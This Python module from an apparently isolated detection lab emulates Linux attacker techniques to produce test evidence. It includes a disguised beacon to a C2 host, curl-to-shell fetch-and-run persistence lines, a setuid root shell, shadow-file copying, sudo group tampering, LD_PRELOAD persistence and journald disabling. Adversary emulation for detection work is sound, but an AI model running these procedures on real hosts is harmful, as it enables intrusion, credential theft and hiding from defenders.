"""Fifth set of real attacker procedures (the `v5-` scenarios), each modelled on an Atomic Red Team
Linux test (read in redcanaryco/atomic-red-team; the commands are our own, nothing vendored) or,
where the mirror holds no Linux test for the technique, on ATT&CK's description (named so); none of
them is used by attacks.py, attacks_v2.py, attacks_v3.py or attacks_v4.py.  Each returns its truth
evidence: the rows of the pack it creates ({query, kind: "added", match}), checked against the
collected run by the builder (fleet_v3.check_evidence_v3).

Only per-host paths are written (hostexec.PER_HOST).  The one outbound connection goes to the lab's
C2 stand-in in the lab namespace (no route leaves it); download cradles name 203.0.113.77
(TEST-NET-3): logins, PAM and systemd do not run in the lab, so nothing fetches."""

from __future__ import annotations

import shlex
from collections.abc import Callable
from typing import Any

from diffy_lab import Lab, LabHost

from .attacks import C2, Attack
from .attacks_v2 import c2_address
from .hostexec import sh, spawn
from .noise_v5 import APP_UNIT, DEPLOY_USER

Evidence = dict[str, Any]
BEACON_PORT = 8089
"""The beacon's C2 port (an uncommon one, T1571)."""


def _ev(query: str, **match: str) -> Evidence:
    return {"query": query, "kind": "added", "match": match}


def _sha256(host: LabHost, path: str) -> str:
    return sh(host, f"sha256sum {shlex.quote(path)}").split()[0]


def _build(host: LabHost, source: str, path: str) -> str:
    """Compile ``source`` on the host into ``path`` (gcc; the source file is removed)."""
    directory = path.rsplit("/", 1)[0]
    return (
        f"mkdir -p {directory} && printf %s {shlex.quote(source)} > {path}.c\n"
        f"gcc -O1 -o {path} {path}.c && rm -f {path}.c\n"
    )


BEACON_C = r"""#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdlib.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <unistd.h>
int main(void) {
    const char *host = getenv("KW_H"), *port = getenv("KW_P"), *name = getenv("KW_N");
    if (!host || !port || !name) return 2;
    prctl(PR_SET_NAME, (unsigned long)name, 0, 0, 0);
    struct sockaddr_in a = {0};
    a.sin_family = AF_INET;
    a.sin_port = htons(atoi(port));
    inet_pton(AF_INET, host, &a.sin_addr);
    unsetenv("KW_H"); unsetenv("KW_P"); unsetenv("KW_N");
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) return 1;
    char buf[256];
    while (read(s, buf, sizeof buf) > 0) {}
    for (;;) sleep(3600);
}
"""


def kthread_beacon(
    lab: Lab,
    host: LabHost,
    port: int = BEACON_PORT,
    comm: str = "kworker/u8:3",
    path: str = "/var/tmp/.systemd-udevd/udev-worker",
) -> list[Evidence]:
    """T1036.004 "linux rename /proc/pid/comm using prctl" with T1571 "Testing usage of uncommonly
    used port": a C program built on the host renames itself (prctl PR_SET_NAME) and is exec'd with
    argv[0] ``[kworker/...]`` and no other argument (its settings come from the environment), so ps
    shows a kernel worker thread, and it holds an outbound TCP connection to the C2 on an uncommon
    port."""
    address = c2_address(lab)
    sh(host, _build(host, BEACON_C, path) + f"chmod 0755 {path}\n", timeout=90)
    argv0 = f"[{comm}]"
    settings = f"KW_H={address} KW_P={port} KW_N={shlex.quote(comm)}"
    spawn(host, f"env {settings} bash -c {shlex.quote(f'exec -a {shlex.quote(argv0)} {path}')}")
    sh(
        host,
        "i=0; while [ $i -lt 100 ]; do "
        f"grep -qx {shlex.quote(comm)} /proc/[0-9]*/comm 2>/dev/null && exit 0; sleep 0.1; i=$((i+1));"
        " done; exit 1",
        timeout=30,
    )
    return [
        _ev("processes", name=comm, cmdline=argv0, path=path),
        _ev("process_open_sockets", remote_address=address, remote_port=str(port), process_path=path),
    ]


def bash_logout(lab: Lab, host: LabHost, user: str = DEPLOY_USER) -> list[Evidence]:
    """T1546.004 "Create/Append to .bash_logout": a fetch-and-run line appended to a login user's
    ~/.bash_logout, run whenever that user leaves an interactive login shell."""
    path = f"/home/{user}/.bash_logout"
    line = f"(curl -fsSL http://{C2}/o.sh | sh) >/dev/null 2>&1 &"
    sh(host, f"echo {shlex.quote(line)} >> {path}")
    return [_ev("shell_profiles", path=path, sha256=_sha256(host, path))]


def perm_weaken(
    lab: Lab, host: LabHost, path: str = "/etc/ssh/sshd_config", mode: str = "0666"
) -> list[Evidence]:
    """T1222.002 "chmod - Change file or folder mode (numeric mode)", applied to a sensitive file:
    sshd's configuration made world-writable, so an unprivileged foothold can later re-enable root
    password logins."""
    sh(host, f"test -f {path} && chmod {mode} {path}")
    return [_ev("auth_config_files", path=path, mode=mode)]


def shadow_copy(
    lab: Lab, host: LabHost, path: str = "/var/tmp/systemd-journal-cat-7f3a.txt"
) -> list[Evidence]:
    """T1003.008 "Access /etc/shadow (Local)": the shadow and passwd files read and written out to a
    staging file for offline cracking (ART writes to /tmp; here to /var/tmp under a journal-ish
    name)."""
    sh(host, f"cat /etc/shadow /etc/passwd > {path} && chmod 0644 {path}")
    return [_ev("temp_files", path=path, sha256=_sha256(host, path))]


SUID_C = r"""#include <unistd.h>
int main(void) {
    setuid(0); setgid(0);
    execl("/bin/sh", "sh", "-p", (char *)0);
    return 1;
}
"""


def suid_c_binary(lab: Lab, host: LabHost, path: str = "/tmp/.font-cache-0/fc-lock") -> list[Evidence]:
    """T1548.001 "Make and modify binary from C source": a root shell launcher built on the host from
    C source, owned by root and given the setuid bit, in a hidden directory under /tmp (it is never
    run here)."""
    sh(host, _build(host, SUID_C, path) + f"chown root:root {path} && chmod 4755 {path}\n", timeout=90)
    return [_ev("suid_bin", path=path)]


def unit_dropin(
    lab: Lab, host: LabHost, payload: str = "/var/tmp/.app-x-hc/pre-start", unit: str = APP_UNIT
) -> list[Evidence]:
    """T1543.002 "Create Systemd Service file, Enable the service, Modify and Reload the service",
    done as a drop-in: an override.conf for the app's own unit adds an ``ExecStartPre=`` running the
    attacker's script every time the app starts (systemd.unit(5): "<unit>.d/*.conf" drop-ins).  No
    systemd runs in the lab, so nothing starts it."""
    dropin = f"{unit}.d/override.conf"
    directory = payload.rsplit("/", 1)[0]
    body = f"#!/bin/sh\n(curl -fsSL http://{C2}/p.sh | sh) >/dev/null 2>&1 &\nexit 0\n"
    text = f"[Service]\nExecStartPre={payload}\n"
    sh(
        host,
        f"mkdir -p {directory} {unit}.d\n"
        f"printf %s {shlex.quote(body)} > {payload} && chmod 0755 {payload}\n"
        f"printf %s {shlex.quote(text)} > {dropin}\n",
    )
    return [_ev("systemd_exec_targets", directive="ExecStartPre", target=payload)]


def existing_user_sudo(lab: Lab, host: LabHost, user: str = "backup") -> list[Evidence]:
    """T1098.007 "Additional Local or Domain Groups" (ATT&CK; the mirror's T1098 holds no Linux
    test): an existing system account (Debian's `backup`) added to the `sudo` group in /etc/group, the
    edit gpasswd would make."""
    sh(
        host,
        rf"sed -i -E 's/^(sudo:[^:]*:[^:]*:)(.*)$/\1\2,{user}/; s/^(sudo:[^:]*:[^:]*:),/\1/' /etc/group"
        + "\n"
        f"grep -Eq '^sudo:.*[:,]{user}(,|$)' /etc/group\n",
    )
    return [_ev("user_groups", username=user, groupname="sudo")]


LIB_C = "int nss_cache_version(void) { return 2; }\n"


def environment_preload(
    lab: Lab, host: LabHost, lib: str = "/var/tmp/.ld-cache/libnss_cache.so.2"
) -> list[Evidence]:
    """T1574.006 "Shared Library Injection via LD_PRELOAD", made persistent through /etc/environment
    (read by pam_env at every login, so every login session preloads the library).  The library is
    built on the host and harmless (one exported function); the lab's sshd runs UsePAM no."""
    directory = lib.rsplit("/", 1)[0]
    sh(
        host,
        f"mkdir -p {directory} && printf %s {shlex.quote(LIB_C)} > {directory}/n.c\n"
        f"gcc -shared -fPIC -o {lib} {directory}/n.c && rm -f {directory}/n.c\n"
        f"echo 'LD_PRELOAD={lib}' >> /etc/environment\n",
        timeout=90,
    )
    return [_ev("shell_profiles", path="/etc/environment", sha256=_sha256(host, "/etc/environment"))]


def journald_off(lab: Lab, host: LabHost, path: str = "/etc/systemd/journald.conf") -> list[Evidence]:
    """T1562.006 "Indicator Blocking" (ATT&CK; the mirror holds no T1562 tests): journald told to
    keep nothing and forward nothing (``Storage=none``, ``ForwardToSyslog=no``, journald.conf(5)), so
    the host's logs stop at the next restart of the journal."""
    sh(
        host,
        f"test -f {path} || printf '[Journal]\\n' > {path}\n"
        f"printf '\\n[Journal]\\nStorage=none\\nForwardToSyslog=no\\n' >> {path}\n",
    )
    return [_ev("auth_config_files", path=path, sha256=_sha256(host, path))]


PROCEDURES: dict[str, Callable[..., list[Evidence]]] = {
    "kthread_beacon": kthread_beacon,
    "bash_logout": bash_logout,
    "perm_weaken": perm_weaken,
    "shadow_copy": shadow_copy,
    "suid_c_binary": suid_c_binary,
    "unit_dropin": unit_dropin,
    "existing_user_sudo": existing_user_sudo,
    "environment_preload": environment_preload,
    "journald_off": journald_off,
}
CONNECTING = {"kthread_beacon"}
"""Procedures that hold a connection to the C2 stand-in (params.port, default BEACON_PORT)."""


def apply(lab: Lab, host: LabHost, attack: Attack) -> list[Evidence]:
    return PROCEDURES[attack.artifact](lab, host, **attack.params)
